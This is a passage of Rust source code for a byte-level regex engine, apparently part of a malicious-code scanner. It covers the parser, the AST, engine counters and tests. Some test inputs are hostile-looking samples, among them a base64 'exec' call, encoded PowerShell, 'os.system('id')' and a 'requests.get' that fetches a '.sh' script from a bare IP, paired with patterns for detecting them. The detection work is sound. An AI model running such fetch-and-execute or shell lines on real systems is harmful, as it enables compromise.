        let m = r.find(b"ab").unwrap();
        assert_eq!((m.start, m.end), (2, 2));
    }

    #[test]
    fn word_boundary() {
        let r = re(r"\beval\b");
        assert!(r.is_match(b"x = eval(y)"));
        assert!(!r.is_match(b"medieval times"));
    }

    #[test]
    fn not_word_boundary() {
        let r = re(r"\Beval");
        assert!(r.is_match(b"medieval"));
        assert!(!r.is_match(b"eval(x)"));
    }

    #[test]
    fn dot_does_not_cross_newline() {
        let r = re("a.c");
        assert!(r.is_match(b"abc"));
        assert!(!r.is_match(b"a\nc"));
    }

    #[test]
    fn classes_and_escapes() {
        let r = re(r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}");
        assert!(r.is_match(b"connect to 185.62.190.159 now"));
        assert!(!r.is_match(b"no ip here"));
    }

    #[test]
    fn base64_blob_pattern() {
        // The pattern from Table I of the paper (simplified).
        let r = re(r"([A-Za-z0-9+/]{4}){3,}(==|=)?");
        assert!(r.is_match(b"exec(b64decode('aW1wb3J0IG9zCg=='))"));
    }

    #[test]
    fn nocase_matching() {
        let r = Regex::new_nocase("powershell").unwrap();
        assert!(r.is_match(b"POWERSHELL -enc ..."));
        assert!(r.is_match(b"PowerShell"));
    }

    #[test]
    fn find_all_non_overlapping() {
        let r = re("aa");
        let all = r.find_all(b"aaaa");
        assert_eq!(all.len(), 2);
        assert_eq!(all[0], Match { start: 0, end: 2 });
        assert_eq!(all[1], Match { start: 2, end: 4 });
    }

    #[test]
    fn find_all_counts_occurrences() {
        let r = re(r"os\.system");
        let hay = b"os.system('a'); os.system('b'); os.popen('c')";
        assert_eq!(r.find_all(hay).len(), 2);
    }

    #[test]
    fn find_all_empty_haystack() {
        let r = re("abc");
        assert!(r.find_all(b"").is_empty());
    }

    #[test]
    fn find_all_empty_matches_advance() {
        let r = re("a*");
        let all = r.find_all(b"ba");
        // Empty at 0, then "a" at 1..2.
        assert_eq!(all[0], Match { start: 0, end: 0 });
        assert_eq!(all[1], Match { start: 1, end: 2 });
    }

    #[test]
    fn literal_skip_does_not_miss_assertion_guarded_seeds() {
        // The first-byte table says 'e'; the skip loop must still let the
        // word-boundary assertion veto or admit individual seeds.
        let r = re(r"\beval\b");
        let hay = b"medieval eval medieval eval(";
        let all = r.find_all(hay);
        assert_eq!(all.len(), 2);
        assert_eq!(all[0], Match { start: 9, end: 13 });
    }

    #[test]
    fn acceleration_jump_reevaluates_assertions() {
        // Regression: a step at offset 0 leaves a failed `\b` stamp in the
        // thread set; the literal-acceleration jump to the 'x' at offset 3
        // must clear it so the boundary is re-checked there.
        let r = re(r"a?\bx");
        assert_eq!(r.find_all(b"ab x"), vec![Match { start: 3, end: 4 }]);
        assert!(r.is_match(b"ab x"));
        let r = re(r"b?\Bx");
        assert_eq!(r.find_all(b"ba ax"), vec![Match { start: 4, end: 5 }]);
    }

    #[test]
    fn prefix_acceleration_skips_decoys() {
        let r = re(r"os\.system\(");
        let hay = b"os_system( os,system( oooos.system os.system('id')";
        let m = r.find(hay).unwrap();
        assert_eq!(&hay[m.start..m.end], b"os.system(");
    }

    #[test]
    fn url_pattern() {
        let r = re(r"https?://[\w.\-/]+");
        let m = r.find(b"requests.get('http://1.2.3.4/x.sh')").unwrap();
        assert_eq!(
            &b"requests.get('http://1.2.3.4/x.sh')"[m.start..m.end],
            b"http://1.2.3.4/x.sh"
        );
    }

    #[test]
    fn nested_groups() {
        let r = re("(a(b|c)d)+");
        assert!(r.is_match(b"abdacd"));
        let m = r.find(b"abdacdx").unwrap();
        assert_eq!(m.len(), 6);
    }

    #[test]
    fn binary_haystack() {
        let r = re(r"\x00\x01");
        assert!(r.is_match(&[0x42, 0x00, 0x01, 0x99]));
    }

    #[test]
    fn find_at_skips_earlier_matches() {
        let r = re("ab");
        let hay = b"ab ab ab";
        assert_eq!(r.find_at(hay, 1), Some(Match { start: 3, end: 5 }));
        assert_eq!(r.find_at(hay, 6), Some(Match { start: 6, end: 8 }));
        assert_eq!(r.find_at(hay, 7), None);
    }

    #[test]
    fn find_at_beyond_len_is_none() {
        // The seed engine's `from..=len` loop was empty for from > len;
        // the single-pass scan must not index past the haystack.
        assert_eq!(re("a*").find_at(b"xxabyy", 7), None);
        assert_eq!(re("ab").find_at(b"xxabyy", 100), None);
        assert_eq!(re("^a").find_at(b"a", 2), None);
    }

    #[test]
    fn program_len_reported() {
        let r = re("abc");
        assert!(r.program().len() >= 4);
        assert!(!r.program().is_empty());
    }
}

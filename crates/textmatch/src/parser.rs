//! Recursive-descent parser for the regular-expression subset.
//!
//! The grammar (in order of precedence, loosest first):
//!
//! ```text
//! alternation  := concat ('|' concat)*
//! concat       := repeat*
//! repeat       := atom quantifier?
//! quantifier   := '*' | '+' | '?' | '{' n (',' m?)? '}' ('?' lazy)?
//! atom         := literal | '.' | class | escape | anchor | '(' alternation ')'
//! ```

use crate::ast::{Ast, Quantifier};
use crate::charclass::CharClass;
use crate::error::RegexError;

/// Maximum expansion of a bounded repetition; `{1,10000}` style patterns
/// are rejected to keep compiled programs small.
const MAX_REPEAT: u32 = 1000;

/// Parses `pattern` into an [`Ast`].
///
/// # Errors
///
/// Returns [`RegexError`] with a byte offset on any syntax problem:
/// unmatched parentheses, unterminated classes, dangling quantifiers,
/// invalid repetition bounds or trailing backslashes.
pub fn parse(pattern: &str) -> Result<Ast, RegexError> {
    let mut p = Parser {
        input: pattern.as_bytes(),
        pos: 0,
    };
    let ast = p.alternation(0)?;
    if p.pos != p.input.len() {
        return Err(RegexError::new(p.pos, "unmatched ')'"));
    }
    Ok(ast)
}

struct Parser<'a> {
    input: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn peek(&self) -> Option<u8> {
        self.input.get(self.pos).copied()
    }

    fn bump(&mut self) -> Option<u8> {
        let b = self.peek();
        if b.is_some() {
            self.pos += 1;
        }
        b
    }

    fn alternation(&mut self, depth: usize) -> Result<Ast, RegexError> {
        if depth > 64 {
            return Err(RegexError::new(self.pos, "expression nested too deeply"));
        }
        let mut branches = vec![self.concat(depth)?];
        while self.peek() == Some(b'|') {
            self.bump();
            branches.push(self.concat(depth)?);
        }
        if branches.len() == 1 {
            Ok(branches.pop().expect("one branch"))
        } else {
            Ok(Ast::Alternate(branches))
        }
    }

    fn concat(&mut self, depth: usize) -> Result<Ast, RegexError> {
        let mut parts = Vec::new();
        loop {
            match self.peek() {
                None | Some(b'|') | Some(b')') => break,
                _ => parts.push(self.repeat(depth)?),
            }
        }
        match parts.len() {
            0 => Ok(Ast::Empty),
            1 => Ok(parts.pop().expect("one part")),
            _ => Ok(Ast::Concat(parts)),
        }
    }

    fn repeat(&mut self, depth: usize) -> Result<Ast, RegexError> {
        let start = self.pos;
        let atom = self.atom(depth)?;
        let quant = match self.peek() {
            Some(b'*') => {
                self.bump();
                Some(Quantifier::star())
            }
            Some(b'+') => {
                self.bump();
                Some(Quantifier::plus())
            }
            Some(b'?') => {
                self.bump();
                Some(Quantifier::question())
            }
            Some(b'{') => self.braced_quantifier()?,
            _ => None,
        };
        let Some(mut q) = quant else {
            return Ok(atom);
        };
        if matches!(
            atom,
            Ast::StartAnchor | Ast::EndAnchor | Ast::WordBoundary | Ast::NotWordBoundary
        ) {
            return Err(RegexError::new(start, "quantifier applied to an assertion"));
        }
        if self.peek() == Some(b'?') {
            self.bump();
            q.greedy = false;
        }
        // Double quantifiers like `a**` are a syntax error.
        if matches!(self.peek(), Some(b'*') | Some(b'+')) {
            return Err(RegexError::new(self.pos, "nothing to repeat"));
        }
        if q.max.is_none() && atom.is_nullable() && q.min == 0 {
            // `(a*)*` — collapse to inner star to avoid VM livelock.
            if let Ast::Group(inner) | Ast::Repeat(inner, _) = &atom {
                return Ok(Ast::Repeat(inner.clone(), Quantifier::star()));
            }
        }
        Ok(Ast::Repeat(Box::new(atom), q))
    }

    /// Parses `{n}`, `{n,}` or `{n,m}`. A `{` not followed by a valid bound
    /// is treated as a literal brace, matching common regex engines.
    fn braced_quantifier(&mut self) -> Result<Option<Quantifier>, RegexError> {
        let open = self.pos;
        // Lookahead: '{' only starts a quantifier when followed by a digit;
        // otherwise it is left in place for the next atom() call to consume
        // as a literal brace.
        if !matches!(self.input.get(open + 1), Some(b) if b.is_ascii_digit()) {
            return Ok(None);
        }
        self.bump(); // consume '{'
        let min = self.number().expect("lookahead guaranteed a digit");
        let max = if self.peek() == Some(b',') {
            self.bump();
            if self.peek() == Some(b'}') {
                None
            } else {
                match self.number() {
                    Some(m) => Some(m),
                    None => return Err(RegexError::new(self.pos, "invalid repetition bound")),
                }
            }
        } else {
            Some(min)
        };
        if self.bump() != Some(b'}') {
            return Err(RegexError::new(open, "unterminated repetition '{'"));
        }
        if let Some(m) = max {
            if m < min {
                return Err(RegexError::new(open, "repetition max is less than min"));
            }
            if m > MAX_REPEAT {
                return Err(RegexError::new(open, "repetition bound too large"));
            }
        }
        if min > MAX_REPEAT {
            return Err(RegexError::new(open, "repetition bound too large"));
        }
        Ok(Some(Quantifier::range(min, max)))
    }

    fn number(&mut self) -> Option<u32> {
        let start = self.pos;
        while matches!(self.peek(), Some(b) if b.is_ascii_digit()) {
            self.bump();
        }
        if self.pos == start {
            return None;
        }
        std::str::from_utf8(&self.input[start..self.pos])
            .ok()
            .and_then(|s| s.parse().ok())
    }

    fn atom(&mut self, depth: usize) -> Result<Ast, RegexError> {
        let start = self.pos;
        match self.bump() {
            None => Err(RegexError::new(start, "unexpected end of pattern")),
            Some(b'(') => {
                // Support non-capturing group syntax `(?:...)`.
                if self.peek() == Some(b'?') {
                    let save = self.pos;
                    self.bump();
                    if self.peek() == Some(b':') {
                        self.bump();
                    } else {
                        self.pos = save;
                    }
                }
                let inner = self.alternation(depth + 1)?;
                if self.bump() != Some(b')') {
                    return Err(RegexError::new(start, "unmatched '('"));
                }
                Ok(Ast::Group(Box::new(inner)))
            }
            Some(b')') => Err(RegexError::new(start, "unmatched ')'")),
            Some(b'*') | Some(b'+') | Some(b'?') => {
                Err(RegexError::new(start, "nothing to repeat"))
            }
            Some(b'[') => self.class(start),
            Some(b'.') => Ok(Ast::Class(CharClass::dot())),
            Some(b'^') => Ok(Ast::StartAnchor),
            Some(b'$') => Ok(Ast::EndAnchor),
            Some(b'\\') => self.escape(start),
            Some(b) => Ok(Ast::Class(CharClass::single(b))),
        }
    }

    fn escape(&mut self, start: usize) -> Result<Ast, RegexError> {
        match self.bump() {
            None => Err(RegexError::new(start, "trailing backslash")),
            Some(b'd') => Ok(Ast::Class(CharClass::digit())),
            Some(b'D') => {
                let mut c = CharClass::digit();
                c.negate();
                Ok(Ast::Class(c))
            }
            Some(b'w') => Ok(Ast::Class(CharClass::word())),
            Some(b'W') => {
                let mut c = CharClass::word();
                c.negate();
                Ok(Ast::Class(c))
            }
            Some(b's') => Ok(Ast::Class(CharClass::space())),
            Some(b'S') => {
                let mut c = CharClass::space();
                c.negate();
                Ok(Ast::Class(c))
            }
            Some(b'b') => Ok(Ast::WordBoundary),
            Some(b'B') => Ok(Ast::NotWordBoundary),
            Some(b'n') => Ok(Ast::Class(CharClass::single(b'\n'))),
            Some(b'r') => Ok(Ast::Class(CharClass::single(b'\r'))),
            Some(b't') => Ok(Ast::Class(CharClass::single(b'\t'))),
            Some(b'0') => Ok(Ast::Class(CharClass::single(0))),
            Some(b'x') => {
                let hi = self.hex_digit(start)?;
                let lo = self.hex_digit(start)?;
                Ok(Ast::Class(CharClass::single(hi * 16 + lo)))
            }
            // Any other escaped byte is a literal (covers \. \\ \/ \[ etc.)
            Some(b) => Ok(Ast::Class(CharClass::single(b))),
        }
    }

    fn hex_digit(&mut self, start: usize) -> Result<u8, RegexError> {
        match self.bump() {
            Some(b) if b.is_ascii_hexdigit() => Ok(match b {
                b'0'..=b'9' => b - b'0',
                b'a'..=b'f' => b - b'a' + 10,
                _ => b - b'A' + 10,
            }),
            _ => Err(RegexError::new(start, "invalid \\x escape")),
        }
    }

    fn class(&mut self, start: usize) -> Result<Ast, RegexError> {
        let mut class = CharClass::new();
        let negated = if self.peek() == Some(b'^') {
            self.bump();
            true
        } else {
            false
        };
        // A leading ']' is a literal member.
        let mut first = true;
        loop {
            let b = match self.bump() {
                None => return Err(RegexError::new(start, "unterminated character class")),
                Some(b']') if !first => break,
                Some(b) => b,
            };
            first = false;
            let lo = if b == b'\\' {
                match self.class_escape(start)? {
                    ClassItem::Byte(x) => x,
                    ClassItem::Set(set) => {
                        class.union(&set);
                        continue;
                    }
                }
            } else {
                b
            };
            // Possible range `lo-hi`.
            if self.peek() == Some(b'-')
                && self.input.get(self.pos + 1).copied() != Some(b']')
                && self.input.get(self.pos + 1).is_some()
            {
                self.bump(); // '-'
                let nb = self.bump().expect("checked above");
                let hi = if nb == b'\\' {
                    match self.class_escape(start)? {
                        ClassItem::Byte(x) => x,
                        ClassItem::Set(_) => {
                            return Err(RegexError::new(start, "invalid range in class"))
                        }
                    }
                } else {
                    nb
                };
                if hi < lo {
                    return Err(RegexError::new(start, "invalid range in character class"));
                }
                class.push_range(lo, hi);
            } else {
                class.push_range(lo, lo);
            }
        }
        if class.is_empty() {
            return Err(RegexError::new(start, "empty character class"));
        }
        if negated {
            class.negate();
        }
        Ok(Ast::Class(class))
    }

    fn class_escape(&mut self, start: usize) -> Result<ClassItem, RegexError> {
        match self.bump() {
            None => Err(RegexError::new(start, "unterminated character class")),
            Some(b'd') => Ok(ClassItem::Set(CharClass::digit())),
            Some(b'w') => Ok(ClassItem::Set(CharClass::word())),
            Some(b's') => Ok(ClassItem::Set(CharClass::space())),
            Some(b'n') => Ok(ClassItem::Byte(b'\n')),
            Some(b'r') => Ok(ClassItem::Byte(b'\r')),
            Some(b't') => Ok(ClassItem::Byte(b'\t')),
            Some(b'x') => {
                let hi = self.hex_digit(start)?;
                let lo = self.hex_digit(start)?;
                Ok(ClassItem::Byte(hi * 16 + lo))
            }
            Some(b) => Ok(ClassItem::Byte(b)),
        }
    }
}

enum ClassItem {
    Byte(u8),
    Set(CharClass),
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ok(pattern: &str) -> Ast {
        parse(pattern).unwrap_or_else(|e| panic!("pattern {pattern:?} failed: {e}"))
    }

    fn err(pattern: &str) -> RegexError {
        parse(pattern).expect_err("expected parse failure")
    }

    #[test]
    fn literal_concat() {
        match ok("abc") {
            Ast::Concat(parts) => assert_eq!(parts.len(), 3),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn alternation_branches() {
        match ok("a|b|c") {
            Ast::Alternate(parts) => assert_eq!(parts.len(), 3),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn star_plus_question() {
        for (pat, min, max) in [("a*", 0, None), ("a+", 1, None), ("a?", 0, Some(1))] {
            match ok(pat) {
                Ast::Repeat(_, q) => {
                    assert_eq!(q.min, min);
                    assert_eq!(q.max, max);
                    assert!(q.greedy);
                }
                other => panic!("unexpected {other:?}"),
            }
        }
    }

    #[test]
    fn lazy_quantifier() {
        match ok("a*?") {
            Ast::Repeat(_, q) => assert!(!q.greedy),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn bounded_repetition() {
        match ok("a{2,5}") {
            Ast::Repeat(_, q) => {
                assert_eq!(q.min, 2);
                assert_eq!(q.max, Some(5));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn open_ended_repetition() {
        match ok("a{3,}") {
            Ast::Repeat(_, q) => {
                assert_eq!(q.min, 3);
                assert_eq!(q.max, None);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn exact_repetition() {
        match ok("a{4}") {
            Ast::Repeat(_, q) => {
                assert_eq!(q.min, 4);
                assert_eq!(q.max, Some(4));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn literal_open_brace_without_bound() {
        // `a{x` — '{' not followed by digits is a literal.
        let ast = ok("a{x}");
        match ast {
            Ast::Concat(parts) => assert_eq!(parts.len(), 4),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn class_with_range_and_escape() {
        match ok(r"[A-Za-z0-9+/\-]") {
            Ast::Class(c) => {
                assert!(c.matches(b'M'));
                assert!(c.matches(b'+'));
                assert!(c.matches(b'-'));
                assert!(!c.matches(b'!'));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn negated_class() {
        match ok("[^0-9]") {
            Ast::Class(c) => {
                assert!(!c.matches(b'3'));
                assert!(c.matches(b'a'));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn leading_close_bracket_is_literal() {
        match ok("[]a]") {
            Ast::Class(c) => {
                assert!(c.matches(b']'));
                assert!(c.matches(b'a'));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn perl_shorthands_inside_class() {
        match ok(r"[\d\s]") {
            Ast::Class(c) => {
                assert!(c.matches(b'7'));
                assert!(c.matches(b' '));
                assert!(!c.matches(b'x'));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn anchors_and_word_boundary() {
        assert_eq!(ok("^"), Ast::StartAnchor);
        assert_eq!(ok("$"), Ast::EndAnchor);
        assert_eq!(ok(r"\b"), Ast::WordBoundary);
    }

    #[test]
    fn hex_escape() {
        match ok(r"\x41") {
            Ast::Class(c) => assert!(c.matches(b'A')),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn non_capturing_group() {
        match ok("(?:ab)+") {
            Ast::Repeat(inner, _) => assert!(matches!(*inner, Ast::Group(_))),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn error_unmatched_paren() {
        assert!(err("(ab").message.contains("unmatched '('"));
        assert!(err("ab)").message.contains("unmatched ')'"));
    }

    #[test]
    fn error_unterminated_class() {
        assert!(err("[abc").message.contains("unterminated character class"));
    }

    #[test]
    fn error_dangling_quantifier() {
        assert!(err("*a").message.contains("nothing to repeat"));
        assert!(err("a**").message.contains("nothing to repeat"));
    }

    #[test]
    fn error_bad_range() {
        assert!(err("[z-a]").message.contains("invalid range"));
    }

    #[test]
    fn error_reversed_bounds() {
        assert!(err("a{5,2}").message.contains("less than min"));
    }

    #[test]
    fn error_huge_bound() {
        assert!(err("a{1,99999}").message.contains("too large"));
    }

    #[test]
    fn error_trailing_backslash() {
        assert!(err("ab\\").message.contains("trailing backslash"));
    }

    #[test]
    fn error_quantified_anchor() {
        assert!(err("^*").message.contains("assertion"));
    }

    #[test]
    fn error_position_is_reported() {
        let e = err("ab[cd");
        assert_eq!(e.position, 2);
    }
}

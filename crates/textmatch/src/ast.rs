//! Abstract syntax tree for the regular-expression subset.

use crate::charclass::CharClass;

/// Repetition bounds attached to a [`Ast::Repeat`] node.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Quantifier {
    /// Minimum number of repetitions.
    pub min: u32,
    /// Maximum number of repetitions; `None` means unbounded.
    pub max: Option<u32>,
    /// Greedy (`*`) vs lazy (`*?`) matching preference.
    pub greedy: bool,
}

impl Quantifier {
    /// `*` — zero or more.
    pub fn star() -> Self {
        Quantifier {
            min: 0,
            max: None,
            greedy: true,
        }
    }

    /// `+` — one or more.
    pub fn plus() -> Self {
        Quantifier {
            min: 1,
            max: None,
            greedy: true,
        }
    }

    /// `?` — zero or one.
    pub fn question() -> Self {
        Quantifier {
            min: 0,
            max: Some(1),
            greedy: true,
        }
    }

    /// `{min,max}` — explicit bounds.
    pub fn range(min: u32, max: Option<u32>) -> Self {
        Quantifier {
            min,
            max,
            greedy: true,
        }
    }
}

/// A parsed regular expression node.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Ast {
    /// Matches the empty string.
    Empty,
    /// Matches one byte from the class.
    Class(CharClass),
    /// Concatenation of sub-expressions, in order.
    Concat(Vec<Ast>),
    /// Ordered alternation (`a|b`): earlier branches are preferred.
    Alternate(Vec<Ast>),
    /// Repetition of the inner expression.
    Repeat(Box<Ast>, Quantifier),
    /// Grouping `( ... )`; capture indices are not exposed, groups only
    /// affect precedence.
    Group(Box<Ast>),
    /// `^` — start-of-input assertion.
    StartAnchor,
    /// `$` — end-of-input assertion.
    EndAnchor,
    /// `\b` — word-boundary assertion.
    WordBoundary,
    /// `\B` — negated word-boundary assertion.
    NotWordBoundary,
}

impl Ast {
    /// Returns true when the expression can match the empty string.
    ///
    /// Used by the compiler to reject pathological unbounded repetitions of
    /// nullable inner expressions (e.g. `(a*)*`), which would otherwise
    /// loop forever in a naive VM.
    pub fn is_nullable(&self) -> bool {
        match self {
            Ast::Empty
            | Ast::StartAnchor
            | Ast::EndAnchor
            | Ast::WordBoundary
            | Ast::NotWordBoundary => true,
            Ast::Class(_) => false,
            Ast::Concat(parts) => parts.iter().all(Ast::is_nullable),
            Ast::Alternate(parts) => parts.iter().any(Ast::is_nullable),
            Ast::Repeat(inner, q) => q.min == 0 || inner.is_nullable(),
            Ast::Group(inner) => inner.is_nullable(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quantifier_constructors() {
        assert_eq!(Quantifier::star(), Quantifier::range(0, None));
        assert_eq!(Quantifier::plus(), Quantifier::range(1, None));
        assert_eq!(Quantifier::question(), Quantifier::range(0, Some(1)));
    }

    #[test]
    fn nullable_empty_and_anchors() {
        assert!(Ast::Empty.is_nullable());
        assert!(Ast::StartAnchor.is_nullable());
        assert!(Ast::WordBoundary.is_nullable());
    }

    #[test]
    fn nullable_class_is_false() {
        assert!(!Ast::Class(CharClass::single(b'a')).is_nullable());
    }

    #[test]
    fn nullable_star_is_true() {
        let star = Ast::Repeat(
            Box::new(Ast::Class(CharClass::single(b'a'))),
            Quantifier::star(),
        );
        assert!(star.is_nullable());
    }

    #[test]
    fn nullable_concat_requires_all() {
        let c = Ast::Concat(vec![Ast::Empty, Ast::Class(CharClass::single(b'a'))]);
        assert!(!c.is_nullable());
    }

    #[test]
    fn nullable_alternate_requires_any() {
        let a = Ast::Alternate(vec![Ast::Class(CharClass::single(b'a')), Ast::Empty]);
        assert!(a.is_nullable());
    }
}

//! Process-global engine counters for the tiered matching pipeline.
//!
//! The matching tiers (Teddy prefilter, lazy DFA, Pike VM, Aho-Corasick
//! fallback) run deep inside per-scan hot loops that have no handle on a
//! hub or registry, so their telemetry is a set of relaxed atomics
//! aggregated per process. Scanning code accumulates locally and flushes
//! once per scan; exporters snapshot via [`engine_counters`] and publish
//! the values next to the per-hub stage metrics.

use std::sync::atomic::{AtomicU64, Ordering};

static TEDDY_SCANS: AtomicU64 = AtomicU64::new(0);
static TEDDY_BYTES_SCANNED: AtomicU64 = AtomicU64::new(0);
static TEDDY_CHUNKS_CLASSIFIED: AtomicU64 = AtomicU64::new(0);
static TEDDY_CHUNKS_VERIFIED: AtomicU64 = AtomicU64::new(0);
static AC_FALLBACK_SCANS: AtomicU64 = AtomicU64::new(0);
static DFA_SCANS: AtomicU64 = AtomicU64::new(0);
static DFA_STATES_BUILT: AtomicU64 = AtomicU64::new(0);
static DFA_CACHE_FLUSHES: AtomicU64 = AtomicU64::new(0);
static PIKEVM_FALLBACKS: AtomicU64 = AtomicU64::new(0);

/// A snapshot of the engine-wide matching-tier counters.
///
/// All values are process-global and monotonically increasing; rates are
/// meaningful as deltas between snapshots.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct EngineCounters {
    /// Multi-literal scans served by the Teddy prefilter tier.
    pub teddy_scans: u64,
    /// Haystack bytes classified by the Teddy SWAR loop.
    pub teddy_bytes_scanned: u64,
    /// 8-start chunks the SWAR classifier examined.
    pub teddy_chunks_classified: u64,
    /// Chunks whose candidate mask was non-zero (bucket verification ran).
    pub teddy_chunks_verified: u64,
    /// Multi-literal scans routed to the Aho-Corasick fallback tier.
    pub ac_fallback_scans: u64,
    /// Regex scans where the lazy DFA ran (gate or full existence pass).
    pub dfa_scans: u64,
    /// Lazy-DFA states determinized on demand.
    pub dfa_states_built: u64,
    /// Bounded-cache overflows that flushed and rebuilt the state table.
    pub dfa_cache_flushes: u64,
    /// Scans abandoned by a thrashing DFA and re-run on the Pike VM.
    pub pikevm_fallbacks: u64,
}

impl EngineCounters {
    /// Fraction of classified chunks that skipped verification entirely —
    /// the Teddy filter's selectivity (1.0 = every chunk skipped).
    pub fn teddy_skip_rate(&self) -> f64 {
        if self.teddy_chunks_classified == 0 {
            return 0.0;
        }
        1.0 - self.teddy_chunks_verified as f64 / self.teddy_chunks_classified as f64
    }

    /// Fraction of multi-literal scans served by the Teddy tier (the rest
    /// fell back to Aho-Corasick).
    pub fn teddy_tier_rate(&self) -> f64 {
        let total = self.teddy_scans + self.ac_fallback_scans;
        if total == 0 {
            return 0.0;
        }
        self.teddy_scans as f64 / total as f64
    }

    /// Fraction of DFA-attempted scans that completed without falling back
    /// to the Pike VM.
    pub fn dfa_completion_rate(&self) -> f64 {
        if self.dfa_scans == 0 {
            return 0.0;
        }
        1.0 - self.pikevm_fallbacks as f64 / self.dfa_scans as f64
    }
}

/// Snapshots the process-global matching-tier counters.
pub fn engine_counters() -> EngineCounters {
    EngineCounters {
        teddy_scans: TEDDY_SCANS.load(Ordering::Relaxed),
        teddy_bytes_scanned: TEDDY_BYTES_SCANNED.load(Ordering::Relaxed),
        teddy_chunks_classified: TEDDY_CHUNKS_CLASSIFIED.load(Ordering::Relaxed),
        teddy_chunks_verified: TEDDY_CHUNKS_VERIFIED.load(Ordering::Relaxed),
        ac_fallback_scans: AC_FALLBACK_SCANS.load(Ordering::Relaxed),
        dfa_scans: DFA_SCANS.load(Ordering::Relaxed),
        dfa_states_built: DFA_STATES_BUILT.load(Ordering::Relaxed),
        dfa_cache_flushes: DFA_CACHE_FLUSHES.load(Ordering::Relaxed),
        pikevm_fallbacks: PIKEVM_FALLBACKS.load(Ordering::Relaxed),
    }
}

pub(crate) fn record_teddy_scan(bytes: u64, chunks_classified: u64, chunks_verified: u64) {
    TEDDY_SCANS.fetch_add(1, Ordering::Relaxed);
    TEDDY_BYTES_SCANNED.fetch_add(bytes, Ordering::Relaxed);
    TEDDY_CHUNKS_CLASSIFIED.fetch_add(chunks_classified, Ordering::Relaxed);
    TEDDY_CHUNKS_VERIFIED.fetch_add(chunks_verified, Ordering::Relaxed);
}

pub(crate) fn record_ac_fallback_scan() {
    AC_FALLBACK_SCANS.fetch_add(1, Ordering::Relaxed);
}

pub(crate) fn record_dfa_scan(states_built: u64, cache_flushes: u64, gave_up: bool) {
    DFA_SCANS.fetch_add(1, Ordering::Relaxed);
    DFA_STATES_BUILT.fetch_add(states_built, Ordering::Relaxed);
    DFA_CACHE_FLUSHES.fetch_add(cache_flushes, Ordering::Relaxed);
    if gave_up {
        PIKEVM_FALLBACKS.fetch_add(1, Ordering::Relaxed);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rates_handle_zero_denominators() {
        let c = EngineCounters::default();
        assert_eq!(c.teddy_skip_rate(), 0.0);
        assert_eq!(c.teddy_tier_rate(), 0.0);
        assert_eq!(c.dfa_completion_rate(), 0.0);
    }

    #[test]
    fn recording_is_visible_in_snapshots() {
        let before = engine_counters();
        record_teddy_scan(100, 10, 2);
        record_ac_fallback_scan();
        record_dfa_scan(5, 1, true);
        let after = engine_counters();
        assert!(after.teddy_bytes_scanned >= before.teddy_bytes_scanned + 100);
        assert!(after.ac_fallback_scans > before.ac_fallback_scans);
        assert!(after.dfa_states_built >= before.dfa_states_built + 5);
        assert!(after.pikevm_fallbacks > before.pikevm_fallbacks);
    }
}
